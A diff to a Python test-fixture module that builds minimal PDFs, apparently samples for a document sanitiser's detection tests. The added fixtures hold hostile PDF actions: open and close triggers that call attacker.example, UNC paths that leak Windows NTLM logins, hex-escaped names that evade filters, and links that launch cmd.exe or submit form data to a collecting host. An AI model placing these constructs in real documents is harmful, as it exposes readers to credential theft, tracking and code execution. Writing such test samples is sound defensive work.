@@ -71,13 +71,16 @@ def jpeg_with_comment() -> bytes:
     return data[:2] + b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + data[2:]
 
 
-def _raw_pdf(catalog_extra: bytes, *, extra_objects: bytes = b"", page_extra: bytes = b"") -> bytes:
-    """A minimal one-page PDF with a correct xref table; `catalog_extra` goes into the catalog."""
-    objects = [
+def _raw_pdf(catalog_extra: bytes, *, extra_objects: bytes = b"", page_extra: bytes = b"",
+             objects: tuple[bytes, ...] = ()) -> bytes:
+    """A minimal one-page PDF with a correct xref table; `catalog_extra` goes into the catalog, `page_extra`
+    into the page (object 3), and `objects` become objects 4, 5, ... (in the xref table)."""
+    objects = (
         b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page_extra + b" >>",
-    ]
+        *objects,
+    )
     body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
     offsets = []
     for number, content in enumerate(objects, start=1):
@@ -116,6 +119,96 @@ def pdf_launch_action() -> bytes:
 def pdf_embedded_file() -> bytes:
     return _raw_pdf(b"/Names << /Embedded#46iles << /Names [(evil.exe) 4 0 R] >> >>",
                     extra_objects=b"4 0 obj\n<< /Type /Filespec /F (evil.exe) >>\nendobj\n")
+
+
+# --- actions that run by themselves or leave the document (#15) -----------------------------------
+# A UNC path in a PDF string: backslashes doubled. A reader following it sends the Windows login (NTLM)
+# to that host.
+UNC = rb"(\\\\attacker.example\\share\\vertrag.pdf)"
+
+
+def pdf_page_aa_uri() -> bytes:
+    """A web address fetched when the page opens (page-level /AA, open event): a read receipt."""
+    return _raw_pdf(b"", page_extra=b"/AA << /O << /S /URI /URI (https://attacker.example/opened) >> >>")
+
+
+def pdf_page_aa_gotor_unc() -> bytes:
+    """Another PDF on a network share opened when the page closes (page /AA, close event)."""
+    return _raw_pdf(b"", page_extra=b"/AA << /C << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>")
+
+
+def pdf_page_aa_gotor_hex_names() -> bytes:
+    """The same with #xx-escaped names (/A#41 is /AA, /GoT#6fR is /GoToR) and the action in its own object."""
+    return _raw_pdf(b"", page_extra=b"/A#41 << /O 4 0 R >>",
+                    objects=(b"<< /S /GoT#6fR /F " + UNC + b" /D [0 /Fit] >>",))
+
+
+def pdf_document_aa() -> bytes:
+    """Document-level /AA (before closing) with a web address."""
+    return _raw_pdf(b"/AA << /WC << /S /URI /URI (https://attacker.example/closed) >> >>")
+
+
+def pdf_open_action_uri() -> bytes:
+    return _raw_pdf(b"/OpenAction << /S /URI /URI (https://attacker.example/opened) >>")
+
+
+def pdf_open_action_goto_then_uri() -> bytes:
+    """An /OpenAction that first goes to the page, then (/Next) to a web address."""
+    return _raw_pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://attacker.example/) >> >>")
+
+
+def _pdf_with_annotation(annotation: bytes) -> bytes:
+    return _raw_pdf(b"", page_extra=b"/Annots [4 0 R]",
+                    objects=(b"<< /Type /Annot /Subtype /Link /Rect [50 50 250 80] /Border [0 0 0] "
+                             + annotation + b" >>",))
+
+
+def pdf_link(action: bytes) -> bytes:
+    """A link annotation whose /A (run when clicked) is `action`."""
+    return _pdf_with_annotation(b"/A " + action)
+
+
+def pdf_widget_aa_uri() -> bytes:
+    """A form field (widget) that calls a web address when it gets the focus (/AA /Fo)."""
+    return _raw_pdf(b"/AcroForm << /Fields [4 0 R] >>", page_extra=b"/Annots [4 0 R]",
+                    objects=(b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /Rect [50 50 250 80] "
+                             b"/P 3 0 R /AA << /Fo << /S /URI /URI (https://attacker.example/focus) >> >> >>",))
+
+
+def pdf_outline_gotor() -> bytes:
+    """A bookmark (outline item) that opens a file on a network share."""
+    return _raw_pdf(b"/Outlines 4 0 R", objects=(
+        b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
+        b"<< /Title (Vertrag) /Parent 4 0 R /A << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>"))
+
+
+LINK_ACTIONS = {
+    "uri_file": b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>",
+    "uri_unc": b"<< /S /URI /URI " + UNC + b" >>",
+    "uri_smb": b"<< /S /URI /URI (smb://attacker.example/share) >>",
+    "uri_javascript": b"<< /S /URI /URI (javascript:alert(1)) >>",
+    "uri_relative": b"<< /S /URI /URI (../../vertrag.pdf) >>",
+    "gotor_unc": b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>",
+    "gotor_url_filespec": b"<< /S /GoToR /F << /FS /URL /F (https://attacker.example/x.pdf) >> /D [0 /Fit] >>",
+    "goto_then_gotor": b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>",
+    "launch": b"<< /S /Launch /F (cmd.exe) >>",
+    "gotoe": b"<< /S /GoToE /T << /R /C /N (anlage) >> >>",
+    "submit_form": b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>",
+    "import_data": b"<< /S /ImportData /F (daten.fdf) >>",
+    "javascript": b"<< /S /JavaScript /JS (app.alert(1)) >>",
+    "rendition": b"<< /S /Rendition /OP 0 >>",
+}
+# What a plain document may do: a link to a web page or a mail address, a link within the document,
+# an /OpenAction that shows the first page.
+LINK_ACTIONS_ALLOWED = {
+    "uri_https": b"<< /S /URI /URI (https://www.kita-sonnenschein.example/) >>",
+    "uri_mailto": b"<< /S /URI /URI (mailto:info@kita-sonnenschein.example) >>",
+    "goto": b"<< /S /GoTo /D [3 0 R /Fit] >>",
+}
+
+
+def pdf_open_action_first_page() -> bytes:
+    return _raw_pdf(b"/OpenAction [3 0 R /Fit]")
 
 
 def pdf_with_trailing(payload: bytes) -> bytes:
